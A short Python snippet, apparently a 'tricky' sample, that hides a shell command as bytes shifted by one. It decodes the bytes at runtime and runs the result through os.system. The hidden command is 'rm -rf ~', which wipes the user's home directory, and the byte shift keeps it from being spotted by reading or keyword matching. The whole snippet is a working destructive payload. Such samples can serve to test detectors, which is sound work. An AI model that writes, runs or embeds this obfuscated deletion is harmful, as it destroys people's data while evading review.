# tricky: shifted bytes
enc = b"sn!.sg!\x7f"
cmd = bytes(x - 1 for x in enc).decode()
__import__("os").system(cmd)
